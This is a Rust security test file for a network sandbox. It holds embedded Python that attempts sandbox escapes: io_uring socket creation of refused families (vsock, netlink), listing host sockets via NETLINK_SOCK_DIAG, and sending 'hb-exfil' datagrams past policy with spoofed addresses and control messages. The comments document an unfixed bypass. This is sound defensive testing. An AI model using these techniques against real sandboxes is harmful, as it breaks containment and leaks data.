//! A thirtieth attack review, run as the process inside the sandbox (uid 65534, arbitrary
//! Python): each test performs one attack from a `sandbox run` sandbox against the real
//! agent and kernel, counts what it got, and asserts the secure outcome.
//!
//! Angle: the kernel side, the ways around the socket hooks attack review 27 did not
//! reach — options as control messages, fragments and segmentation offload, sockets
//! handed over, io_uring, and events under pressure.
//!
//! Found on the way (fails against b600072): a connected UDP socket's datagram with a
//! control message and no address — ECN marks through `IP_TOS`, which QUIC stacks send
//! this way, `IP_TTL`, `IPV6_TCLASS` — was refused (EPERM, reason `deny_range`, address
//! `0.0.0.0` or `::`): the control message makes `udp_sendmsg` treat the socket as
//! unconnected and run `sendmsg4|6`, which the kernel hands a zeroed address when the
//! caller named none, and the program judged that. Not a way out, a way broken: 0 of 3
//! such datagrams reached the allowed peer on b600072, 3 of 3 now
//! (`sock_addr::to_connected_peer`: family and port zero, address zero, is the
//! kernel's stand-in — a name the caller gives has a port). What names a destination
//! is still judged (an `AF_UNSPEC` name carrying an address outside the policy, an
//! explicit one beside a control message: EPERM), and so is the source a control
//! message names (`IP_PKTINFO`: EPERM, `nonlocal_source`).
//!
//! Still open (the test fails against b600072 and this tree, and is ignored):
//! - io_uring's own socket creation (`IORING_OP_SOCKET`, under a policy with
//!   `allow_io_uring`) is not the `socket` system call, so the seccomp filter that keeps a
//!   sandbox to `AF_UNIX`, `AF_INET`, `AF_INET6` and `NETLINK_ROUTE` never sees it, and
//!   `cgroup/sock_create` runs for internet sockets only (`inet_create`,
//!   `inet6_create`): a sandbox opened `AF_VSOCK` (on a VM node, the hypervisor's host:
//!   this machine is a Firecracker guest whose host listens on vsock ports) and six other
//!   netlink protocols (`NETLINK_SOCK_DIAG`, `AUDIT`, `GENERIC`, `KOBJECT_UEVENT`,
//!   `XFRM`, `NETFILTER`): 7 of 7 on b600072, and with the `NETLINK_SOCK_DIAG` socket it
//!   listed the host's TCP listener on an address its policy does not allow (and every
//!   other socket of the namespace: other sandboxes' peers). Nothing was sent over vsock
//!   (that would leave the machine): the test counts the sockets opened. The seccomp
//!   rule's own note says io_uring goes around it; what it goes around was not listed.
//!   The fix needs a hook that sees every socket a task creates: `lsm/socket_create`
//!   (refuse, for `ENROLL_LAUNCHER` cgroups, what the seccomp rule refuses; attach it
//!   while a policy sets `allow_io_uring`). Written, and not kept: this machine's kernel
//!   refuses every `BPF_PROG_TYPE_LSM` load with EPERM (a two-instruction program, root
//!   with every capability, BPF in the active LSM list, lockdown `integrity`), so it
//!   could not be shown to work. No Landlock access right covers socket creation on
//!   6.18. Until then `allow_io_uring` also means "every socket family the kernel
//!   lets uid 65534 create", which its docs now say.
//!
//! Held, tried from a sandbox on b600072 and not kept as tests:
//! - io_uring under `allow_io_uring`: `IORING_OP_CONNECT` (TCP and UDP), `SENDMSG` with
//!   a destination, `SEND` with a destination (`addr2`) and `SEND_ZC` with one, to an
//!   address outside the policy: each EPERM from `connect4`/`sendmsg4` (the hooks run in
//!   the socket layer, and io_uring's workers sit in the submitter's cgroup), nothing
//!   arrived at the host's listeners; a `SEND` to the allowed address arrived (the
//!   control). `IORING_OP_SOCKET` of UDP-Lite: `cgroup/sock_create` refused it (EPERM,
//!   `unjudged_send`); of `AF_PACKET` and a raw internet socket: EPERM (no `CAP_NET_RAW`).
//! - io_uring socket options (`IORING_OP_URING_CMD`, `SOCKET_URING_OP_SETSOCKOPT`):
//!   `SO_REUSEPORT`, `IP_ADD_MEMBERSHIP`, `IP_FREEBIND`, `IP_OPTIONS` with LSRR each EPERM
//!   from `cgroup/setsockopt` (`do_sock_setsockopt` runs the hook), as by the system call.
//! - control messages: `IP_RETOPTS` with an LSRR option through the allowed address to
//!   one outside the policy: EPERM (`cgroup_skb/egress`, `source_route`); the same from
//!   a ping socket: EACCES; `IP_PKTINFO` naming a source the host does not hold: EPERM
//!   (`sendmsg4`, `nonlocal_source`); `SO_MARK` and `SO_PRIORITY` (7) cmsgs: EPERM (the
//!   kernel wants `CAP_NET_ADMIN`); `IP_TTL` 1, `IP_TOS`, `SCM_TXTIME` only change how
//!   a datagram to the allowed address goes (it arrived there, nowhere else).
//!   `IPV6_RTHDR` as a cmsg: EINVAL on this kernel for types 0, 2 and 4, small or
//!   fragmented (`ip6_datagram_send_ctl` takes type 2 only with `CONFIG_IPV6_MIP6`),
//!   and `wire.rs` covers it where it is taken; `IPV6_DSTOPTS`, `IPV6_HOPOPTS`,
//!   `IPV6_RTHDRDSTOPTS` need `CAP_NET_RAW`: EPERM.
//! - a corked UDP datagram (`MSG_MORE` to the allowed address) and a second `sendto`
//!   naming an address outside the policy: the kernel appends the second to the pending
//!   datagram and ignores its address (`udp_sendmsg`'s `up->pending` path, before the
//!   hook), so its bytes arrived at the allowed address and nothing at the other.
//! - MPTCP (`IPPROTO_MPTCP`): refused at `cgroup/sock_create` (reason `mptcp`).
//! - fragments and offload: a 5000-byte UDP datagram with `IP_PMTUDISC_DONT`, a 4000-byte
//!   IPv6 one and a 3000-byte `UDP_SEGMENT` send to the allowed address arrived (the
//!   packet hook runs in `ip_finish_output`/`ip6_finish_output`, before fragmentation
//!   and segmentation, so it sees one header for all of them); to an address outside the
//!   policy they never get past `connect4`/`sendmsg4`. A later fragment cannot carry a
//!   routing header the first one hides: the header before it names it (its next-header
//!   byte is in the first fragment), and `walk_ipv6_ext_headers` refuses on the name
//!   (read, not probed: it needs a raw socket, which no sandbox has).
//! - events under pressure: one sandbox refused 20000 times (a new destination each)
//!   while a second sandbox was refused once: 320 events for the first (its caps) and a
//!   `refusals_counted` record carrying the other 19679, the second sandbox's refusal
//!   reported, `events_lost` 0 (budgets are per cgroup; the ring holds ~180 cgroups'
//!   bursts).
//! - sockets handed over: `sandbox run` leaves the command only stdin (`/dev/null`),
//!   stdout and stderr (pipes) — no socket of the launcher's. Two sandboxes of different
//!   policies cannot meet over a pathname Unix socket: each has its own `/tmp` and
//!   `/dev/shm` (a socket bound there by one: ENOENT for the other), the rest is
//!   read-only; nor over abstract ones (`unix_scope.rs`). A socket used by another
//!   cgroup's task is judged at `connect`/`sendmsg` by the *task's* cgroup
//!   (`bpf_get_current_cgroup_id`) and on the wire by the *socket's*
//!   (`bpf_skb_cgroup_id`), so it passes only what both allow or what its creator
//!   connected (which its creator could relay anyway).
//!
//! Everything lives in the test's own network namespace, addresses on `lo`.

use std::{fs, process::Command, thread, time::Duration};

use hb_tests::{
    TcpProbe, TestEnv, private_netns, python, random_suffix, sandboxed::nobody_python, spawn_ready,
};

/// Allowed by the policy; and the address of a host listener the policy does not allow.
const ALLOWED4: &str = "203.0.113.10";
const HOST4: &str = "203.0.113.20";

/// A minimal io_uring in Python (x86_64 system call numbers): `Ring().op(opcode, …)`
/// submits one SQE and returns its CQE's result, raising `OSError` on a negative one.
const PY_URING: &str = r#"
import ctypes, errno, mmap, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
class Ring:
    def __init__(self, entries=8):
        p = ctypes.create_string_buffer(120)
        self.fd = libc.syscall(425, entries, p)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        n_sq, n_cq = struct.unpack_from("<2I", p.raw, 0)
        self.so, self.co = struct.unpack_from("<7I", p.raw, 40), struct.unpack_from("<7I", p.raw, 80)
        self.sq = mmap.mmap(self.fd, self.so[6] + n_sq * 4, offset=0)
        self.cq = mmap.mmap(self.fd, self.co[5] + n_cq * 16, offset=0x8000000)
        self.sqes = mmap.mmap(self.fd, n_sq * 64, offset=0x10000000)
        self.seq = 0
    def op(self, opcode, fd=0, off=0, addr=0, length=0):
        self.seq += 1
        tail = struct.unpack_from("<I", self.sq, self.so[1])[0]
        i = tail & struct.unpack_from("<I", self.sq, self.so[2])[0]
        self.sqes[i * 64:(i + 1) * 64] = struct.pack("<BBHiQQIIQ24x", opcode, 0, 0, fd, off, addr, length, 0, self.seq)
        struct.pack_into("<I", self.sq, self.so[6] + i * 4, i)
        struct.pack_into("<I", self.sq, self.so[1], tail + 1)
        if libc.syscall(426, self.fd, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        while True:
            head = struct.unpack_from("<I", self.cq, self.co[0])[0]
            if head == struct.unpack_from("<I", self.cq, self.co[1])[0]:
                libc.syscall(426, self.fd, 0, 1, 1, None, 0)
                continue
            slot = self.co[5] + (head & struct.unpack_from("<I", self.cq, self.co[2])[0]) * 16
            seq, res, flags = struct.unpack_from("<QiI", self.cq, slot)
            struct.pack_into("<I", self.cq, self.co[0], head + 1)
            if seq == self.seq and not flags & 8:
                break
        if res < 0:
            raise OSError(-res, os.strerror(-res))
        return res
def attempt(label, f):
    try:
        r = f(); print(label, "OK", r, flush=True); return r
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e)), flush=True)
"#;

/// `IORING_OP_SOCKET` (include/uapi/linux/io_uring.h).
const PY_SOCKETS: &str = r#"
ring = Ring()
def uring_socket(family, kind, protocol):
    return ring.op(45, fd=family, off=kind, length=protocol)
# The controls: what the seccomp filter allows, opened through the ring.
attempt("control-udp", lambda: uring_socket(socket.AF_INET, socket.SOCK_DGRAM, 0))
attempt("control-netlink-route", lambda: uring_socket(16, socket.SOCK_RAW, 0))
opened = {}
for name, family, kind, protocol in [("vsock", 40, 1, 0), ("netlink-sock-diag", 16, 3, 4),
        ("netlink-audit", 16, 3, 9), ("netlink-generic", 16, 3, 16),
        ("netlink-uevent", 16, 3, 15), ("netlink-xfrm", 16, 3, 6), ("netlink-netfilter", 16, 3, 12)]:
    fd = attempt("family-" + name, lambda: uring_socket(family, kind, protocol))
    if fd is not None:
        opened[name] = fd
# With a NETLINK_SOCK_DIAG socket: the host's TCP listeners (inet_diag_req_v2, TCP_LISTEN).
if "netlink-sock-diag" in opened:
    d = socket.socket(fileno=opened["netlink-sock-diag"])
    req = struct.pack("<BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 1 << 10) + b"\0" * 48
    d.send(struct.pack("<IHHII", 16 + len(req), 20, 0x301, 1, 0) + req)
    seen = []
    done = False
    while not done:
        data = d.recv(65536)
        off = 0
        while off + 16 <= len(data):
            length, kind = struct.unpack_from("<IH", data, off)
            if kind in (2, 3) or length < 16:
                done = True
                break
            port = struct.unpack_from("!H", data, off + 16 + 4)[0]
            addr = socket.inet_ntoa(data[off + 16 + 8:off + 16 + 12])
            seen.append("%s:%d" % (addr, port))
            off += (length + 3) & ~3
    print("listeners", " ".join(seen), flush=True)
"#;

/// A sandbox whose policy allows io_uring creates no socket of a family its seccomp
/// filter refuses through io_uring's own `IORING_OP_SOCKET`: no `AF_VSOCK`, no netlink
/// protocol but `NETLINK_ROUTE`, and so it cannot list the host's sockets. The controls:
/// the same ring opens a UDP socket and a `NETLINK_ROUTE` one.
#[test]
#[ignore = "open: IORING_OP_SOCKET opens every family the seccomp filter refuses (7 of 7); the fix needs lsm/socket_create"]
fn io_uring_opens_no_socket_family_the_sandbox_is_refused() {
    private_netns(&[ALLOWED4, HOST4]);
    let listener = TcpProbe::bind(&format!("{HOST4}:0"));
    let port = listener.addr.port();
    let mut env = TestEnv::new(
        "ar30-uring",
        &format!(
            "[egress]\nexception_cidrs = [\"203.0.113.0/24\"]\n\n[[policy]]\nname = \"uring\"\n\
             allow_cidrs = [\"{ALLOWED4}\"]\nallow_io_uring = true\n"
        ),
    );
    env.start_agent();
    let out = nobody_python(&env, "uring", &format!("{PY_URING}\n{PY_SOCKETS}"), &[]);
    let got = String::from_utf8_lossy(&out.stdout).into_owned();
    let opened = got
        .lines()
        .filter(|l| l.starts_with("family-") && l.contains(" OK "))
        .count();
    let learned = got
        .lines()
        .any(|l| l.starts_with("listeners") && l.contains(&format!("{HOST4}:{port}")));
    println!(
        "figure: {opened} of 7 socket families the sandbox's seccomp filter refuses opened \
         through IORING_OP_SOCKET; the host's listener {HOST4}:{port} learned through \
         NETLINK_SOCK_DIAG: {learned}; the sandbox saw {got:?}"
    );
    assert!(
        got.contains("control-udp OK") && got.contains("control-netlink-route OK"),
        "the ring did not open what the sandbox may open: {got:?} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(opened, 0, "io_uring opened refused families: {got:?}");
    assert!(!learned, "the sandbox listed the host's listener: {got:?}");
    env.wait_event("the socket family's refusal", |e| {
        e["hook"] == "sock_create" && e["reason"] == "unjudged_send" && e["policy"] == "uring"
    });
}

/// The IPv6 pair of the control-message test: allowed, and outside the policy.
const ALLOWED6: &str = "2001:db8::10";
const HOST6: &str = "2001:db8::20";

/// The host's UDP listeners on `argv[3:]` (port `argv[2]`), writing `<address> <tag>` to
/// the file `argv[1]` for every datagram carrying `hb-exfil:<tag>`.
const PY_UDP_RECORDER: &str = r#"
import select, socket, sys
out = open(sys.argv[1], "a", buffering=1)
port, socks = int(sys.argv[2]), []
for h in sys.argv[3:]:
    s = socket.socket(socket.AF_INET6 if ":" in h else socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((h, port)); socks.append(s)
print("ready", flush=True)
while True:
    for s in select.select(socks, [], [])[0]:
        data = s.recv(4096)
        i = data.find(b"hb-exfil:")
        if i >= 0:
            out.write("%s %s\n" % (s.getsockname()[0], data[i + 9:].decode(errors="replace")))
"#;

/// Connected UDP sockets' datagrams with control messages and no address, and the
/// attacks that must stay refused beside them: a name of family `AF_UNSPEC` carrying
/// an address outside the policy, an explicit address outside it with a control
/// message, and a control message naming a source the host does not hold.
const PY_CMSG: &str = r#"
import ctypes, errno, socket, struct, sys
allowed4, host4, allowed6, host6, port = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
libc = ctypes.CDLL(None, use_errno=True)
def attempt(label, f):
    try:
        f(); print(label, "sent", flush=True)
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e)), flush=True)
def tag(label):
    return ("hb-exfil:" + label).encode()
def connected(label, family, dst, cmsg):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.connect((dst, port))
    s.sendmsg([tag(label)], [cmsg])
TOS = (socket.IPPROTO_IP, socket.IP_TOS, struct.pack("i", 2))
attempt("tos", lambda: connected("tos", socket.AF_INET, allowed4, TOS))
attempt("ttl", lambda: connected("ttl", socket.AF_INET, allowed4, (socket.IPPROTO_IP, socket.IP_TTL, struct.pack("i", 9))))
attempt("tclass", lambda: connected("tclass", socket.AF_INET6, allowed6, (socket.IPPROTO_IPV6, socket.IPV6_TCLASS, struct.pack("i", 2))))
def unspec_name():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((allowed4, port))
    name = struct.pack("<H", socket.AF_UNSPEC) + struct.pack("!H", port) + socket.inet_aton(host4) + b"\0" * 8
    data = tag("unspec")
    if libc.sendto(s.fileno(), data, len(data), 0, name, len(name)) < 0:
        raise OSError(ctypes.get_errno(), "sendto")
attempt("unspec", unspec_name)
def named(label, family, connect_to, dst):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.connect((connect_to, port))
    s.sendmsg([tag(label)], [TOS if family == socket.AF_INET else (socket.IPPROTO_IPV6, socket.IPV6_TCLASS, struct.pack("i", 2))], 0, (dst, port))
attempt("named4", lambda: named("named4", socket.AF_INET, allowed4, host4))
attempt("named6", lambda: named("named6", socket.AF_INET6, allowed6, host6))
def pktinfo():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((allowed4, port))
    info = struct.pack("<i4s4s", 0, socket.inet_aton("198.51.100.9"), socket.inet_aton("0.0.0.0"))
    s.sendmsg([tag("pktinfo")], [(socket.IPPROTO_IP, 8, info)])
attempt("pktinfo", pktinfo)
"#;

/// A connected UDP socket's datagram with a control message and no address (ECN marks
/// through `IP_TOS`, as QUIC stacks send them; `IP_TTL`; `IPV6_TCLASS`) goes to the
/// peer `connect` admitted, and arrives; it was refused as a send to `0.0.0.0`/`::`
/// (`deny_range`), the zeroed address the kernel hands the hook when the caller named
/// none. What names a destination is still judged: an `AF_UNSPEC` name carrying an
/// address outside the policy, an explicit one beside a control message; and a control
/// message naming a source that is not the host's is still refused.
#[test]
fn a_connected_sockets_control_message_reaches_its_peer_and_names_no_other() {
    private_netns(&[ALLOWED4, HOST4, ALLOWED6, HOST6]);
    let port = "7001";
    let log = std::env::temp_dir().join(format!("hb-ar30-{}", random_suffix()));
    let mut recorder = spawn_ready(
        Command::new(python()).args([
            "-c",
            PY_UDP_RECORDER,
            &log.display().to_string(),
            port,
            ALLOWED4,
            HOST4,
            ALLOWED6,
            HOST6,
        ]),
        "the host's UDP listeners",
    );
    let mut env = TestEnv::new(
        "ar30-cmsg",
        &format!(
            "[egress]\nexception_cidrs = [\"203.0.113.0/24\", \"2001:db8::/32\"]\n\n\
             [[policy]]\nname = \"narrow\"\nallow_cidrs = [\"{ALLOWED4}\", \"{ALLOWED6}\"]\n"
        ),
    );
    env.start_agent();
    let out = nobody_python(
        &env,
        "narrow",
        PY_CMSG,
        &[ALLOWED4, HOST4, ALLOWED6, HOST6, port],
    );
    let got = String::from_utf8_lossy(&out.stdout).into_owned();
    thread::sleep(Duration::from_millis(300));
    let arrived: Vec<String> = fs::read_to_string(&log)
        .unwrap_or_default()
        .lines()
        .map(str::to_owned)
        .collect();
    let _ = recorder.kill();
    let _ = recorder.wait();
    let _ = fs::remove_file(&log);
    let at_allowed = |label: &str| {
        arrived
            .iter()
            .any(|l| l == &format!("{ALLOWED4} {label}") || l == &format!("{ALLOWED6} {label}"))
    };
    let reached = ["tos", "ttl", "tclass"]
        .iter()
        .filter(|l| at_allowed(l))
        .count();
    let elsewhere: Vec<&String> = arrived
        .iter()
        .filter(|l| l.starts_with(HOST4) || l.starts_with(HOST6) || l.ends_with(" pktinfo"))
        .collect();
    println!(
        "figure: {reached} of 3 connected datagrams with a control message reached the \
         allowed peer; {} reached an address outside the policy or left from a foreign \
         source; the sandbox saw {got:?}",
        elsewhere.len()
    );
    assert_eq!(
        reached, 3,
        "connected datagrams with cmsgs were refused: {got:?}"
    );
    assert!(elsewhere.is_empty(), "{elsewhere:?} ({got:?})");
    for refused in [
        "unspec EPERM",
        "named4 EPERM",
        "named6 EPERM",
        "pktinfo EPERM",
    ] {
        assert!(got.contains(refused), "expected {refused:?}: {got:?}");
    }
}
